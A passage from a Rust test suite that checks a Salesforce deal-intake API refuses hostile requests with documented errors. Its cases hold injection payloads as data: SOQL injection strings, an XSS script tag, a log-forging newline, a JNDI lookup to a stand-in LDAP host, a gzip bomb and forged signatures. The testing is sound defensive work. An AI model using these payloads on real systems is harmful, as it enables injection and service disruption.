//! Hostile input at the edge. Every request in these tables is refused with the documented answer
//! (a 4xx JSON error naming the problem, or a SOAP fault), nothing is enqueued and the Salesforce
//! fake is never called. The tables are meant to grow: add a row with a name, the request and the
//! expected answer.
//!
//! Surfaces: `POST /v1/deals` (JSON, signed or with a bearer token), `POST
//! /v1/outbound-messages/{token}` (SOAP Outbound Messages) and the platform-events function
//! (EventBridge events relayed from Salesforce).

use aws_lambda_events::eventbridge::EventBridgeEvent;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use dealbridge::queue::QueueName;
use dealbridge_intake::auth::{AuthError, IntakeCredentials, SIGNATURE_HEADER, sign, verify_json};
use dealbridge_intake::handle;
use dealbridge_intake::request::parse_deal_request;
use dealbridge_platform_events::EventError;
use dealbridge_sandbox::events::{http_request, sample, with_signed_body};
use dealbridge_sandbox::local::{LocalStack, SANDBOX_BEARER_TOKEN, SANDBOX_HMAC_KEY, sample_time};
use lambda_http::http::{HeaderMap, HeaderValue};
use lambda_http::{Body, Response};
use proptest::prelude::*;
use serde_json::{Value, json};

/// The most an error answer may weigh: it names the problem, it never echoes a large input back.
const MAX_ANSWER_BYTES: usize = 2048;

/// The error codes the README documents for 4xx answers of `POST /v1/deals` (and the routing ones).
const DOCUMENTED_CODES: [&str; 12] = [
    "empty_body",
    "malformed_json",
    "unknown_field",
    "missing_field",
    "conflicting_fields",
    "invalid_type",
    "invalid_id",
    "invalid_field",
    "unauthenticated",
    "invalid_credentials",
    "body_too_large",
    "not_found",
];

// ---- the expected answers ----

#[derive(Debug, Clone)]
enum Expect {
    /// `{"error":{"code","message","field"}}` with this status; the message contains `says`.
    Json {
        status: u16,
        code: &'static str,
        field: Option<String>,
        says: String,
    },
    /// A SOAP fault with this status and `faultcode`; the `faultstring` contains `says`.
    Fault {
        status: u16,
        code: &'static str,
        says: String,
    },
}

fn error(status: u16, code: &'static str, field: Option<&str>, says: &str) -> Expect {
    Expect::Json {
        status,
        code,
        field: field.map(str::to_string),
        says: says.to_string(),
    }
}

fn bad_request(code: &'static str, field: Option<&str>, says: &str) -> Expect {
    error(400, code, field, says)
}

fn client_fault(status: u16, says: &str) -> Expect {
    Expect::Fault {
        status,
        code: "soapenv:Client",
        says: says.to_string(),
    }
}

struct Case {
    name: String,
    event: Value,
    expect: Expect,
}

fn case(name: impl Into<String>, event: Value, expect: Expect) -> Case {
    Case {
        name: name.into(),
        event,
        expect,
    }
}

// ---- reading answers ----

fn body_text(r: &Response<Body>) -> String {
    String::from_utf8_lossy(r.body().as_ref()).into_owned()
}

fn header<'a>(r: &'a Response<Body>, name: &str) -> Option<&'a str> {
    r.headers().get(name).and_then(|v| v.to_str().ok())
}

/// The text of the first `<name>` element, with the five predefined entities resolved.
fn xml_text(xml: &str, name: &str) -> Option<String> {
    let open = format!("<{name}>");
    let start = xml.find(&open)? + open.len();
    let end = start + xml[start..].find(&format!("</{name}>"))?;
    Some(
        xml[start..end]
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&apos;", "'")
            .replace("&#13;", "\r")
            .replace("&amp;", "&"),
    )
}

fn enqueued(stack: &LocalStack) -> usize {
    QueueName::ALL
        .iter()
        .map(|q| stack.queue.sent(*q).len())
        .sum()
}

/// Checks one answer against its expectation; the error names the case.
fn check_answer(name: &str, expect: &Expect, r: &Response<Body>) {
    let text = body_text(r);
    assert!(
        text.len() <= MAX_ANSWER_BYTES,
        "{name}: the answer has {} bytes: {}…",
        text.len(),
        text.chars().take(300).collect::<String>()
    );
    assert_eq!(
        header(r, "cache-control"),
        Some("no-store"),
        "{name}: {text}"
    );
    match expect {
        Expect::Json {
            status,
            code,
            field,
            says,
        } => {
            assert_eq!(r.status().as_u16(), *status, "{name}: {text}");
            assert_eq!(
                header(r, "content-type"),
                Some("application/json"),
                "{name}"
            );
            let json: Value = serde_json::from_str(&text)
                .unwrap_or_else(|e| panic!("{name}: the answer is not JSON ({e}): {text}"));
            assert_eq!(json["error"]["code"], *code, "{name}: {text}");
            assert_eq!(
                json["error"]["field"].as_str(),
                field.as_deref(),
                "{name}: {text}"
            );
            let message = json["error"]["message"].as_str().unwrap_or_default();
            assert!(!message.is_empty(), "{name}: no message: {text}");
            assert!(
                message.contains(says.as_str()),
                "{name}: the message should say {says:?}: {text}"
            );
        }
        Expect::Fault { status, code, says } => {
            assert_eq!(r.status().as_u16(), *status, "{name}: {text}");
            assert_eq!(
                header(r, "content-type"),
                Some("text/xml; charset=utf-8"),
                "{name}"
            );
            assert!(!text.contains("<Ack>"), "{name}: acknowledged: {text}");
            assert_eq!(
                xml_text(&text, "faultcode").as_deref(),
                Some(*code),
                "{name}: {text}"
            );
            let fault = xml_text(&text, "faultstring")
                .unwrap_or_else(|| panic!("{name}: no faultstring: {text}"));
            assert!(
                fault.contains(says.as_str()),
                "{name}: the fault should say {says:?}: {fault}"
            );
        }
    }
}

/// Sends every case to the intake; each must get its answer, enqueue nothing and call nothing.
async fn run_intake_cases(stack: &LocalStack, cases: Vec<Case>) {
    let mut names = std::collections::BTreeSet::new();
    for c in cases {
        assert!(names.insert(c.name.clone()), "two cases named {}", c.name);
        // Shown only if the case fails (a panic inside the handler does not name the case).
        eprintln!("case: {}", c.name);
        let r = handle(http_request(&c.event), &stack.intake).await;
        check_answer(&c.name, &c.expect, &r);
        assert_eq!(enqueued(stack), 0, "{}: something was enqueued", c.name);
        assert_eq!(
            stack.salesforce.observer().total(),
            0,
            "{}: Salesforce was called",
            c.name
        );
    }
}

// ---- building requests ----

fn t() -> i64 {
    sample_time().timestamp()
}

/// The HTTP API (v2) deal event with `body`, signed now with the sandbox key.
fn signed(body: &str) -> Value {
    with_signed_body(&sample("intake-http-api-deal.json"), body, t())
}

fn signed_at(body: &str, at: i64) -> Value {
    with_signed_body(&sample("intake-http-api-deal.json"), body, at)
}

/// The deal event with `body` and the signature header set to `signature` verbatim.
fn with_signature(body: &str, signature: &str) -> Value {
    let mut e = signed(body);
    e["headers"][SIGNATURE_HEADER] = json!(signature);
    e
}

fn unsigned(body: &str) -> Value {
    let mut e = signed(body);
    if let Some(headers) = e["headers"].as_object_mut() {
        headers.remove(SIGNATURE_HEADER);
    }
    e
}

/// The REST API (v1) legacy event with `body` and `Authorization: <authorization>`.
fn with_authorization(body: &str, authorization: &str) -> Value {
    let mut e = sample("intake-rest-api-legacy.json");
    e["body"] = json!(body);
    e["headers"]["Authorization"] = json!(authorization);
    e["multiValueHeaders"]["Authorization"] = json!([authorization]);
    e
}

/// The deal event carrying `bytes` base64-encoded, as API Gateway sends a binary body; the
/// signature covers `signed_bytes`.
fn base64_body(bytes: &[u8], signed_bytes: &[u8]) -> Value {
    let mut e = sample("intake-http-api-deal.json");
    e["body"] = json!(BASE64.encode(bytes));
    e["isBase64Encoded"] = json!(true);
    e["headers"][SIGNATURE_HEADER] =
        json!(sign(SANDBOX_HMAC_KEY.as_bytes(), t(), signed_bytes).unwrap());
    e
}

/// The deal event sent to another path or with another method.
/// `bytes` gzip-compressed, as Apex's `HttpRequest.setCompressed(true)` sends a body.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

/// The deal event with `compressed` as its body (base64-encoded by API Gateway, as a binary body
/// is) and `Content-Encoding: encoding`, signed over `signed_bytes`.
fn compressed_body(compressed: &[u8], encoding: &str, signed_bytes: &[u8]) -> Value {
    let mut e = base64_body(compressed, signed_bytes);
    e["headers"]["content-encoding"] = json!(encoding);
    e
}

fn routed(method: &str, path: &str) -> Value {
    let mut e = signed("{}");
    e["rawPath"] = json!(path);
    e["requestContext"]["http"]["path"] = json!(path);
    e["requestContext"]["http"]["method"] = json!(method);
    e
}

fn opportunity(id: &str) -> String {
    json!({ "opportunityId": id }).to_string()
}

/// `depth` nested arrays.
fn nested_arrays(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

fn sample_soap_body() -> String {
    sample("intake-outbound-message.json")["body"]
        .as_str()
        .unwrap()
        .to_string()
}

/// The Outbound Message event with `body`, posted to the sandbox token's URL.
fn soap(body: &str) -> Value {
    let mut e = sample("intake-outbound-message.json");
    e["body"] = json!(body);
    e["headers"]["content-length"] = json!(body.len().to_string());
    e
}

fn soap_with_token(token: &str) -> Value {
    let path = format!("/v1/outbound-messages/{token}");
    let mut e = sample("intake-outbound-message.json");
    e["rawPath"] = json!(path);
    e["requestContext"]["http"]["path"] = json!(path);
    e
}

/// The sample message with `from` replaced by `to` (which must occur).
fn soap_replacing(from: &str, to: &str) -> Value {
    let body = sample_soap_body();
    assert!(body.contains(from), "the sample has no {from:?}");
    soap(&body.replacen(from, to, 1))
}

/// An Outbound Message from the sandbox org with the given notifications.
fn soap_message(org: &str, notifications: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>{org}</OrganizationId>
   <ActionId>04kSB0000000001AAA</ActionId>
{notifications}
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>
"#
    )
}

fn notification(id: &str, sobject: &str, record_id: &str) -> String {
    format!(
        r#"   <Notification>
    <Id>{id}</Id>
    <sObject xsi:type="sf:{sobject}" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>{record_id}</sf:Id>
    </sObject>
   </Notification>"#
    )
}

/// The sandbox org's Id as the sample message sends it.
const ORG: &str = "00DSB00000000012AA";

// ---- POST /v1/deals ----

fn deal_cases(stack: &LocalStack) -> Vec<Case> {
    let opp = stack.id("VolumeOpportunity").to_string();
    let account = stack.id("VolumeAccount").to_string();
    let order = stack.id("InternetOrder").to_string();
    let good = opportunity(&opp);
    // `B` marks the first character, a digit, as upper case: no Id has that suffix.
    let wrong_checksum = format!("{}BAA", &opp[..15]);
    let cyrillic = opp.replacen('B', "\u{0412}", 1);
    let fullwidth = format!("\u{FF10}\u{FF10}\u{FF16}{}", &opp[3..]);
    let mut cases = vec![
        // Bodies that are not a JSON object.
        case(
            "an empty body",
            signed(""),
            bad_request("empty_body", None, "the body is empty"),
        ),
        case(
            "a body of whitespace",
            signed(" \r\n\t "),
            bad_request("empty_body", None, "the body is empty"),
        ),
        case(
            "JSON with a trailing comma",
            signed(&format!(r#"{{"opportunityId":"{opp}",}}"#)),
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "JSON with single quotes",
            signed(&format!("{{'opportunityId':'{opp}'}}")),
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "a form-encoded body",
            {
                let mut e = signed(&format!("opportunityId={opp}"));
                e["headers"]["content-type"] = json!("application/x-www-form-urlencoded");
                e
            },
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "an XML body sent as JSON",
            signed(&sample_soap_body()),
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "NaN as a value",
            signed(r#"{"opportunityId": NaN}"#),
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "two JSON objects back to back",
            signed(&format!("{good}{good}")),
            bad_request("malformed_json", None, "trailing characters"),
        ),
        case(
            "a byte-order mark before the JSON",
            signed(&format!("\u{FEFF}{good}")),
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "an unterminated string",
            signed(r#"{"opportunityId":"006"#),
            bad_request("malformed_json", None, "EOF"),
        ),
        case(
            "a lone surrogate escape",
            signed(r#"{"opportunityId":"\ud800"}"#),
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "an array holding the request",
            signed(&format!("[{good}]")),
            bad_request("malformed_json", None, "must be a JSON object"),
        ),
        case(
            "a JSON string",
            signed(&format!("\"{opp}\"")),
            bad_request("malformed_json", None, "must be a JSON object"),
        ),
        case(
            "JSON null",
            signed("null"),
            bad_request("malformed_json", None, "must be a JSON object"),
        ),
        case(
            "a JSON number",
            signed("6"),
            bad_request("malformed_json", None, "must be a JSON object"),
        ),
        case(
            "arrays nested 100,000 deep",
            signed(&nested_arrays(100_000)),
            bad_request("malformed_json", None, "recursion limit"),
        ),
        case(
            "an Id nested in 200 arrays",
            signed(&format!(
                r#"{{"opportunityId":{}"{opp}"{}}}"#,
                "[".repeat(200),
                "]".repeat(200)
            )),
            bad_request("malformed_json", None, "recursion limit"),
        ),
        // Wrong types.
        case(
            "opportunityId as a number",
            signed(r#"{"opportunityId": 42}"#),
            bad_request("invalid_type", Some("opportunityId"), "must be a string"),
        ),
        case(
            "opportunityId as a float",
            signed(r#"{"opportunityId": 6.0e2}"#),
            bad_request("invalid_type", Some("opportunityId"), "must be a string"),
        ),
        case(
            "opportunityId as an array",
            signed(&json!({ "opportunityId": [opp] }).to_string()),
            bad_request("invalid_type", Some("opportunityId"), "must be a string"),
        ),
        case(
            "opportunityId as an object",
            signed(&json!({ "opportunityId": { "Id": opp } }).to_string()),
            bad_request("invalid_type", Some("opportunityId"), "must be a string"),
        ),
        case(
            "opportunityId as a boolean",
            signed(r#"{"opportunityId": true}"#),
            bad_request("invalid_type", Some("opportunityId"), "must be a string"),
        ),
        case(
            "opportunityId as null",
            signed(r#"{"opportunityId": null}"#),
            bad_request("missing_field", Some("opportunityId"), "send opportunityId"),
        ),
        case(
            "orderId as a number",
            signed(r#"{"orderId": 801}"#),
            bad_request("invalid_type", Some("orderId"), "must be a string"),
        ),
        case(
            "Opportunity_Id as a number",
            signed(r#"{"Opportunity_Id": 6}"#),
            bad_request("invalid_type", Some("Opportunity_Id"), "must be a string"),
        ),
        case(
            "dryRun as a string",
            signed(&json!({"opportunityId": opp, "dryRun": "true"}).to_string()),
            bad_request("invalid_type", Some("dryRun"), "true or false"),
        ),
        case(
            "dryRun as a number",
            signed(&json!({"opportunityId": opp, "dryRun": 1}).to_string()),
            bad_request("invalid_type", Some("dryRun"), "true or false"),
        ),
        case(
            "correlationId as a number",
            signed(&json!({"opportunityId": opp, "correlationId": 42}).to_string()),
            bad_request(
                "invalid_field",
                Some("correlationId"),
                "correlationId must be",
            ),
        ),
        case(
            "correlationId as an array",
            signed(&json!({"opportunityId": opp, "correlationId": ["a"]}).to_string()),
            bad_request(
                "invalid_field",
                Some("correlationId"),
                "correlationId must be",
            ),
        ),
        // Unknown fields.
        case(
            "an unknown field",
            signed(&json!({"opportunityId": opp, "extra": 1}).to_string()),
            bad_request("unknown_field", Some("extra"), "unknown field \"extra\""),
        ),
        case(
            "opportunityId with a capital O",
            signed(&json!({ "OpportunityId": opp }).to_string()),
            bad_request("unknown_field", Some("OpportunityId"), "expected one of"),
        ),
        case(
            "opportunityid in lower case",
            signed(&json!({ "opportunityid": opp }).to_string()),
            bad_request("unknown_field", Some("opportunityid"), "expected one of"),
        ),
        case(
            "a __proto__ field",
            signed(&json!({"opportunityId": opp, "__proto__": {"admin": true}}).to_string()),
            bad_request("unknown_field", Some("__proto__"), "unknown field"),
        ),
        case(
            "an empty field name",
            signed(&json!({"opportunityId": opp, "": 1}).to_string()),
            bad_request("unknown_field", Some(""), "unknown field \"\""),
        ),
        case(
            "an accountId field",
            signed(&json!({"opportunityId": opp, "accountId": account}).to_string()),
            bad_request("unknown_field", Some("accountId"), "unknown field"),
        ),
        case(
            "a 10 KB field name (shown shortened)",
            signed(&json!({"opportunityId": opp, "k".repeat(10_240): 1}).to_string()),
            bad_request("unknown_field", Some(&"k".repeat(64)), "unknown field"),
        ),
        // Which Id.
        case(
            "both opportunityId and orderId",
            signed(&json!({"opportunityId": opp, "orderId": order}).to_string()),
            bad_request(
                "conflicting_fields",
                Some("orderId"),
                "send only one of opportunityId, orderId",
            ),
        ),
        case(
            "both opportunityId and Opportunity_Id",
            signed(&json!({"opportunityId": opp, "Opportunity_Id": opp}).to_string()),
            bad_request(
                "conflicting_fields",
                Some("Opportunity_Id"),
                "send only one",
            ),
        ),
        case(
            "all three Id fields",
            signed(
                &json!({"opportunityId": opp, "orderId": order, "Opportunity_Id": opp}).to_string(),
            ),
            bad_request("conflicting_fields", Some("orderId"), "send only one"),
        ),
        case(
            "an empty object",
            signed("{}"),
            bad_request("missing_field", Some("opportunityId"), "send opportunityId"),
        ),
        case(
            "only a correlationId",
            signed(r#"{"correlationId":"c-1"}"#),
            bad_request("missing_field", Some("opportunityId"), "or orderId"),
        ),
        case(
            "only dryRun",
            signed(r#"{"dryRun":true}"#),
            bad_request("missing_field", Some("opportunityId"), "or orderId"),
        ),
        case(
            "a repeated key whose last value is an injection",
            signed(&format!(
                r#"{{"opportunityId":"{opp}","opportunityId":"006' OR Id != '"}}"#
            )),
            bad_request("duplicate_key", Some("opportunityId"), "more than once"),
        ),
        // Sizes.
        case(
            "a body one byte over 1 MiB",
            {
                let pad = 1024 * 1024 + 1 - opportunity("").len() - opp.len();
                let body = opportunity(&format!("{opp}{}", " ".repeat(pad)));
                assert_eq!(body.len(), 1024 * 1024 + 1);
                signed(&body)
            },
            error(413, "body_too_large", None, "the limit is 1048576"),
        ),
        case(
            "a 2 MiB Id",
            signed(&opportunity(&"0".repeat(2 * 1024 * 1024))),
            error(413, "body_too_large", None, "the limit is 1048576"),
        ),
        case(
            "a 2 MiB body without credentials",
            unsigned(&opportunity(&"0".repeat(2 * 1024 * 1024))),
            error(413, "body_too_large", None, "bytes"),
        ),
        case(
            "a 10 KB Id",
            signed(&opportunity(&"0".repeat(10_240))),
            bad_request(
                "invalid_id",
                Some("opportunityId"),
                "a Salesforce Id has 15 or 18 characters, got 10240",
            ),
        ),
        case(
            "a 10 KB correlationId",
            signed(&json!({"opportunityId": opp, "correlationId": "c".repeat(10_240)}).to_string()),
            bad_request("invalid_field", Some("correlationId"), "1 to 80"),
        ),
        // Ids that are not Ids.
        case(
            "an Id closing the SOQL literal",
            signed(&opportunity("006' OR Id != '")),
            bad_request("invalid_id", Some("opportunityId"), "found '\\''"),
        ),
        case(
            "an Id escaping the quote with a backslash",
            signed(&opportunity("006A000010khO8J\\' --")),
            bad_request("invalid_id", Some("opportunityId"), "got 20"),
        ),
        case(
            "a valid Id followed by an injection",
            signed(&opportunity(&format!("{opp}' OR Name LIKE '%"))),
            bad_request("invalid_id", Some("opportunityId"), "15 or 18"),
        ),
        case(
            "an 18-character Id ending with a quote",
            signed(&opportunity(&format!("{}'", &opp[..17]))),
            bad_request(
                "invalid_id",
                Some("opportunityId"),
                "only letters and digits",
            ),
        ),
        case(
            "an Id sent as \\u0027 escapes",
            signed(r#"{"opportunityId":"006SB000000000\u0027"}"#),
            bad_request("invalid_id", Some("opportunityId"), "found '\\''"),
        ),
        case(
            "a LIKE wildcard in a 15-character Id",
            signed(&opportunity("006SB00000000%%")),
            bad_request("invalid_id", Some("opportunityId"), "found '%'"),
        ),
        case(
            "a 15-character Id with a hyphen",
            signed(&opportunity("006SB000000000-")),
            bad_request("invalid_id", Some("opportunityId"), "found '-'"),
        ),
        case(
            "a URL-encoded quote after the Id",
            signed(&opportunity(&format!("{opp}%27"))),
            bad_request("invalid_id", Some("opportunityId"), "got 21"),
        ),
        case(
            "a Cyrillic letter that looks Latin",
            signed(&opportunity(&cyrillic)),
            bad_request("invalid_id", Some("opportunityId"), "found '\u{0412}'"),
        ),
        case(
            "full-width digits",
            signed(&opportunity(&fullwidth)),
            bad_request("invalid_id", Some("opportunityId"), "found '\u{FF10}'"),
        ),
        case(
            "a zero-width space inside the Id",
            signed(&opportunity(&format!(
                "{}\u{200B}{}",
                &opp[..9],
                &opp[10..]
            ))),
            bad_request("invalid_id", Some("opportunityId"), "found '\\u{200b}'"),
        ),
        case(
            "a NUL inside the Id",
            signed(&opportunity(&format!("{}\u{0}{}", &opp[..9], &opp[10..]))),
            bad_request("invalid_id", Some("opportunityId"), "found '\\0'"),
        ),
        case(
            "an Id with a leading space",
            signed(&opportunity(&format!(" {opp}"))),
            bad_request("invalid_id", Some("opportunityId"), "got 19"),
        ),
        case(
            "an 18-character Id whose checksum does not fit it",
            signed(&opportunity(&wrong_checksum)),
            bad_request("invalid_id", Some("opportunityId"), "checksum"),
        ),
        // Compressed bodies.
        case(
            "a gzip bomb (10 MiB of spaces in 10 KB)",
            compressed_body(&gzip(&vec![b' '; 10 * 1024 * 1024]), "gzip", b""),
            error(
                413,
                "body_too_large",
                None,
                "decodes to more than 1048576 bytes",
            ),
        ),
        case(
            "a body marked gzip that is not",
            compressed_body(good.as_bytes(), "gzip", good.as_bytes()),
            bad_request("undecodable_body", None, "cannot be decoded"),
        ),
        case(
            "a gzip body signed over its compressed bytes",
            {
                let compressed = gzip(good.as_bytes());
                compressed_body(&compressed, "gzip", &compressed)
            },
            error(401, "invalid_credentials", None, "does not match the body"),
        ),
        case(
            "a Brotli body",
            compressed_body(good.as_bytes(), "br", good.as_bytes()),
            error(415, "unsupported_encoding", None, "br"),
        ),
        // Duplicate keys: a reader that takes the first value would see another request.
        case(
            "dryRun twice, true then false",
            signed(&format!(
                r#"{{"opportunityId":"{opp}","dryRun":true,"dryRun":false}}"#
            )),
            bad_request("duplicate_key", Some("dryRun"), "more than once"),
        ),
        case(
            "a SOQL fragment, then a valid Id, in the same key",
            signed(&format!(
                r#"{{"opportunityId":"006' OR Id != '","opportunityId":"{opp}"}}"#
            )),
            bad_request("duplicate_key", Some("opportunityId"), "more than once"),
        ),
        case(
            "a key twice through an escape",
            signed(&format!(
                r#"{{"opportunityId":"{opp}","\u006fpportunityId":"{opp}"}}"#
            )),
            bad_request("duplicate_key", Some("opportunityId"), "more than once"),
        ),
        case(
            "a route that only ends in /v1/deals",
            routed("POST", "/anything/v1/deals"),
            error(404, "not_found", None, "no such resource"),
        ),
        case(
            "a route with /v1/deals inside it",
            routed("POST", "/v1/deals/v1/deals"),
            error(404, "not_found", None, "no such resource"),
        ),
        case(
            "an Id of 14 characters",
            signed(&opportunity(&opp[..14])),
            bad_request("invalid_id", Some("opportunityId"), "got 14"),
        ),
        case(
            "an Id of 16 characters",
            signed(&opportunity(&opp[..16])),
            bad_request("invalid_id", Some("opportunityId"), "got 16"),
        ),
        case(
            "an empty Id",
            signed(&opportunity("")),
            bad_request("invalid_id", Some("opportunityId"), "got 0"),
        ),
        case(
            "an Account Id as opportunityId",
            signed(&opportunity(&account)),
            bad_request(
                "invalid_id",
                Some("opportunityId"),
                "is not an Opportunity Id (they start with 006)",
            ),
        ),
        case(
            "an Order Id as opportunityId",
            signed(&opportunity(&order)),
            bad_request(
                "invalid_id",
                Some("opportunityId"),
                "is not an Opportunity Id",
            ),
        ),
        case(
            "an Opportunity Id as orderId",
            signed(&json!({ "orderId": opp }).to_string()),
            bad_request(
                "invalid_id",
                Some("orderId"),
                "is not an Order Id (they start with 801)",
            ),
        ),
        case(
            "the Organization Id as orderId",
            signed(&json!({ "orderId": ORG }).to_string()),
            bad_request("invalid_id", Some("orderId"), "is not an Order Id"),
        ),
        case(
            "an Account Id as the legacy Opportunity_Id",
            signed(&json!({ "Opportunity_Id": account }).to_string()),
            bad_request("invalid_id", Some("Opportunity_Id"), "Opportunity_Id: "),
        ),
        case(
            "a SOQL fragment as the legacy Opportunity_Id",
            signed(&json!({"Opportunity_Id": "006' OR Id != '"}).to_string()),
            bad_request("invalid_id", Some("Opportunity_Id"), "Opportunity_Id: "),
        ),
        // Correlation ids.
        case(
            "a correlationId with a space",
            signed(&json!({"opportunityId": opp, "correlationId": "a b"}).to_string()),
            bad_request("invalid_field", Some("correlationId"), "letters, digits"),
        ),
        case(
            "a correlationId holding markup",
            signed(
                &json!({"opportunityId": opp, "correlationId": "<script>alert(1)</script>"})
                    .to_string(),
            ),
            bad_request("invalid_field", Some("correlationId"), "letters, digits"),
        ),
        case(
            "a correlationId forging a log line",
            signed(
                &json!({"opportunityId": opp, "correlationId": "c-1\nlevel=ERROR forged"})
                    .to_string(),
            ),
            bad_request("invalid_field", Some("correlationId"), "letters, digits"),
        ),
        case(
            "a correlationId of 81 characters",
            signed(&json!({"opportunityId": opp, "correlationId": "c".repeat(81)}).to_string()),
            bad_request("invalid_field", Some("correlationId"), "1 to 80"),
        ),
        case(
            "an empty correlationId",
            signed(&json!({"opportunityId": opp, "correlationId": ""}).to_string()),
            bad_request("invalid_field", Some("correlationId"), "1 to 80"),
        ),
        case(
            "a correlationId with an accented letter",
            signed(&json!({"opportunityId": opp, "correlationId": "d\u{e9}al"}).to_string()),
            bad_request("invalid_field", Some("correlationId"), "letters, digits"),
        ),
        case(
            "a correlationId with a path",
            signed(&json!({"opportunityId": opp, "correlationId": "a/../b"}).to_string()),
            bad_request("invalid_field", Some("correlationId"), "letters, digits"),
        ),
        case(
            "a correlationId with a lookup string",
            signed(
                &json!({"opportunityId": opp, "correlationId": "${jndi:ldap://x/a}"}).to_string(),
            ),
            bad_request("invalid_field", Some("correlationId"), "letters, digits"),
        ),
        // Bodies API Gateway decoded from base64.
        case(
            "a base64 body that is not JSON",
            base64_body(b"\x00\x01binary", b"\x00\x01binary"),
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "a base64 body that is not UTF-8",
            {
                let bytes = format!(r#"{{"opportunityId":"{opp}"}}"#)
                    .into_bytes()
                    .into_iter()
                    .map(|b| if b == b'Y' { 0xFF } else { b })
                    .collect::<Vec<u8>>();
                base64_body(&bytes, &bytes)
            },
            bad_request("malformed_json", None, "not valid JSON"),
        ),
        case(
            "a base64 body signed as its base64 text",
            base64_body(good.as_bytes(), BASE64.encode(&good).as_bytes()),
            error(
                401,
                "invalid_credentials",
                None,
                "the signature does not match the body",
            ),
        ),
        // Signatures.
        case(
            "no credentials at all",
            unsigned(&good),
            error(401, "unauthenticated", None, "no credentials"),
        ),
        case(
            "a signature of zeros",
            with_signature(&good, &format!("t={},v1={}", t(), "0".repeat(64))),
            error(
                401,
                "invalid_credentials",
                None,
                "the signature does not match the body",
            ),
        ),
        case(
            "the signature of another body",
            with_signature(
                &good,
                &sign(
                    SANDBOX_HMAC_KEY.as_bytes(),
                    t(),
                    opportunity(stack.id("GraduatedOpportunity").as_str()).as_bytes(),
                )
                .unwrap(),
            ),
            error(401, "invalid_credentials", None, "does not match"),
        ),
        case(
            "a signature made with another key",
            with_signature(&good, &sign(b"guess", t(), good.as_bytes()).unwrap()),
            error(401, "invalid_credentials", None, "does not match"),
        ),
        case(
            "a bare SHA-256 of the body instead of an HMAC",
            with_signature(&good, &{
                use sha2::Digest as _;
                let digest = sha2::Sha256::digest(format!("{}.{good}", t()).as_bytes());
                format!("t={},v1={}", t(), hex::encode(digest))
            }),
            error(401, "invalid_credentials", None, "does not match"),
        ),
        case(
            "a signature replayed 301 seconds later",
            signed_at(&good, t() - 301),
            error(
                401,
                "invalid_credentials",
                None,
                "outside the accepted window",
            ),
        ),
        case(
            "a signature dated 301 seconds ahead",
            signed_at(&good, t() + 301),
            error(
                401,
                "invalid_credentials",
                None,
                "outside the accepted window",
            ),
        ),
        case(
            "a signature from 1970",
            signed_at(&good, 0),
            error(
                401,
                "invalid_credentials",
                None,
                "outside the accepted window",
            ),
        ),
        case(
            "a signature dated in the year 292 billion",
            signed_at(&good, i64::MAX),
            error(
                401,
                "invalid_credentials",
                None,
                "outside the accepted window",
            ),
        ),
        case(
            "a signature header t=abc,v1=",
            with_signature(&good, "t=abc,v1="),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "an empty signature header",
            with_signature(&good, ""),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a signature header without t",
            with_signature(
                &good,
                sign(SANDBOX_HMAC_KEY.as_bytes(), t(), good.as_bytes())
                    .unwrap()
                    .split_once(',')
                    .unwrap()
                    .1,
            ),
            error(
                401,
                "invalid_credentials",
                None,
                "expected t=<unix seconds>",
            ),
        ),
        case(
            "a signature header without v1",
            with_signature(&good, &format!("t={}", t())),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a signature that is not hex",
            with_signature(&good, &format!("t={},v1={}", t(), "zz".repeat(32))),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a signature of 31 bytes",
            with_signature(&good, &format!("t={},v1={}", t(), "ab".repeat(31))),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a signature of 33 bytes",
            with_signature(&good, &format!("t={},v1={}", t(), "ab".repeat(33))),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a timestamp beyond 64 bits",
            with_signature(
                &good,
                &format!("t=99999999999999999999,v1={}", "ab".repeat(32)),
            ),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a timestamp with a fraction",
            with_signature(&good, &format!("t={}.0,v1={}", t(), "ab".repeat(32))),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a signature scheme other than v1",
            with_signature(&good, &format!("t={},v0={}", t(), "ab".repeat(32))),
            error(401, "invalid_credentials", None, "malformed"),
        ),
        case(
            "a duplicated signature header whose second copy is for another body",
            {
                let right = sign(SANDBOX_HMAC_KEY.as_bytes(), t(), good.as_bytes()).unwrap();
                let other = sign(SANDBOX_HMAC_KEY.as_bytes(), t(), b"{}").unwrap();
                // HTTP APIs join repeated headers with commas.
                with_signature(&good, &format!("{right},{other}"))
            },
            error(401, "invalid_credentials", None, "does not match"),
        ),
        case(
            "a duplicated signature header (REST API) whose last copy is stale",
            {
                let stale = sign(SANDBOX_HMAC_KEY.as_bytes(), t() - 301, good.as_bytes()).unwrap();
                let right = sign(SANDBOX_HMAC_KEY.as_bytes(), t(), good.as_bytes()).unwrap();
                let mut e = with_authorization(&good, "Bearer x");
